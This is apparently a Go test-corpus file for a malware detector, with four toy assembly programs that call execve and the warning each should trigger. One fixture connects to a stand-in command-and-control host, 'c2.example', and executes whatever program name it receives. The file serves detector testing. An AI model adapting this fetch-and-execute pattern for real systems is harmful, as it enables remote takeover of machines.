@@ -1,0 +1,156 @@
+package corpus
+
+import (
+	hth "repro"
+	"repro/internal/secpert"
+)
+
+// Table 4 — Execution flow micro benchmarks (§8.1.1). All four call
+// execve; the program name's provenance differs.
+
+func init() {
+	register(&Scenario{
+		Name:  "execve-user-input",
+		Table: "T4",
+		Row:   "User input",
+		Desc:  "execve with the program name read from stdin: correctly classified as not malicious",
+		Setup: func(sys *hth.System) {
+			sys.MustInstallSource("/bin/ls", trivialExe)
+			sys.MustInstallSource("/bin/execve.exe", `
+.text
+_start:
+    mov ebx, 0          ; stdin
+    mov ecx, buf
+    mov edx, 32
+    mov eax, 3          ; SYS_read
+    int 0x80
+    mov ebx, buf
+    mov ecx, 0
+    mov edx, 0
+    mov eax, 11         ; SYS_execve
+    int 0x80
+    hlt
+.data
+buf: .space 32
+`)
+		},
+		Spec:   hth.RunSpec{Path: "/bin/execve.exe", Stdin: []byte("/bin/ls")},
+		Expect: Expectation{Clean: true},
+	})
+
+	register(&Scenario{
+		Name:  "execve-hardcode",
+		Table: "T4",
+		Row:   "Hardcode",
+		Desc:  "execve with a hardcoded program name: Low warning",
+		Setup: func(sys *hth.System) {
+			sys.MustInstallSource("/bin/ls", trivialExe)
+			sys.MustInstallSource("/bin/execve.exe", `
+.text
+_start:
+    mov ebx, prog
+    mov ecx, 0
+    mov edx, 0
+    mov eax, 11
+    int 0x80
+    hlt
+.data
+prog: .asciz "/bin/ls"
+`)
+		},
+		Spec: hth.RunSpec{Path: "/bin/execve.exe"},
+		Expect: Expectation{
+			ExactCount: 1,
+			Warnings: []ExpectWarning{{
+				Severity: secpert.Low,
+				Rule:     "check_execve",
+				Contains: `Found SYS_execve call ("/bin/ls")`,
+			}},
+		},
+	})
+
+	register(&Scenario{
+		Name:  "execve-remote",
+		Table: "T4",
+		Row:   "Remote execve",
+		Desc:  "execve with the program name received over a socket: High warning",
+		Setup: func(sys *hth.System) {
+			sys.MustInstallSource("/bin/ls", trivialExe)
+			sys.AddRemote("c2.example:6667", func() vosScript { return sendScript{payload: "/bin/ls"} })
+			sys.MustInstallSource("/bin/execve.exe", `
+.text
+_start:
+    mov eax, 102
+    mov ebx, 1          ; socket
+    mov ecx, scargs
+    int 0x80
+    mov [scargs], eax
+    mov [scargs+4], addr
+    mov eax, 102
+    mov ebx, 3          ; connect
+    mov ecx, scargs
+    int 0x80
+    mov [scargs+4], buf
+    mov [scargs+8], 32
+    mov eax, 102
+    mov ebx, 10         ; recv
+    mov ecx, scargs
+    int 0x80
+    mov ebx, buf
+    mov ecx, 0
+    mov edx, 0
+    mov eax, 11         ; execve
+    int 0x80
+    hlt
+.data
+addr:   .asciz "c2.example:6667"
+buf:    .space 32
+scargs: .space 12
+`)
+		},
+		Spec: hth.RunSpec{Path: "/bin/execve.exe"},
+		Expect: Expectation{
+			Warnings: []ExpectWarning{{
+				Severity: secpert.High,
+				Rule:     "check_execve",
+				Contains: `originated from ("c2.example:6667")`,
+			}},
+		},
+	})
+
+	register(&Scenario{
+		Name:  "execve-infrequent",
+		Table: "T4",
+		Row:   "Infrequent execve",
+		Desc:  "hardcoded execve in rarely-executed code after a sleep: Medium warning",
+		Setup: func(sys *hth.System) {
+			sys.MustInstallSource("/bin/ls", trivialExe)
+			sys.MustInstallSource("/bin/execve.exe", `
+.text
+_start:
+    ; sleep to simulate malicious code where the execve runs rarely,
+    ; long after startup (paper §8.1.1)
+    mov ebx, 30000
+    mov eax, 162        ; SYS_nanosleep
+    int 0x80
+    mov ebx, prog
+    mov ecx, 0
+    mov edx, 0
+    mov eax, 11
+    int 0x80
+    hlt
+.data
+prog: .asciz "/bin/ls"
+`)
+		},
+		Spec: hth.RunSpec{Path: "/bin/execve.exe"},
+		Expect: Expectation{
+			ExactCount: 1,
+			Warnings: []ExpectWarning{{
+				Severity: secpert.Medium,
+				Rule:     "check_execve",
+				Contains: "This code is rarely executed...",
+			}},
+		},
+	})
+}
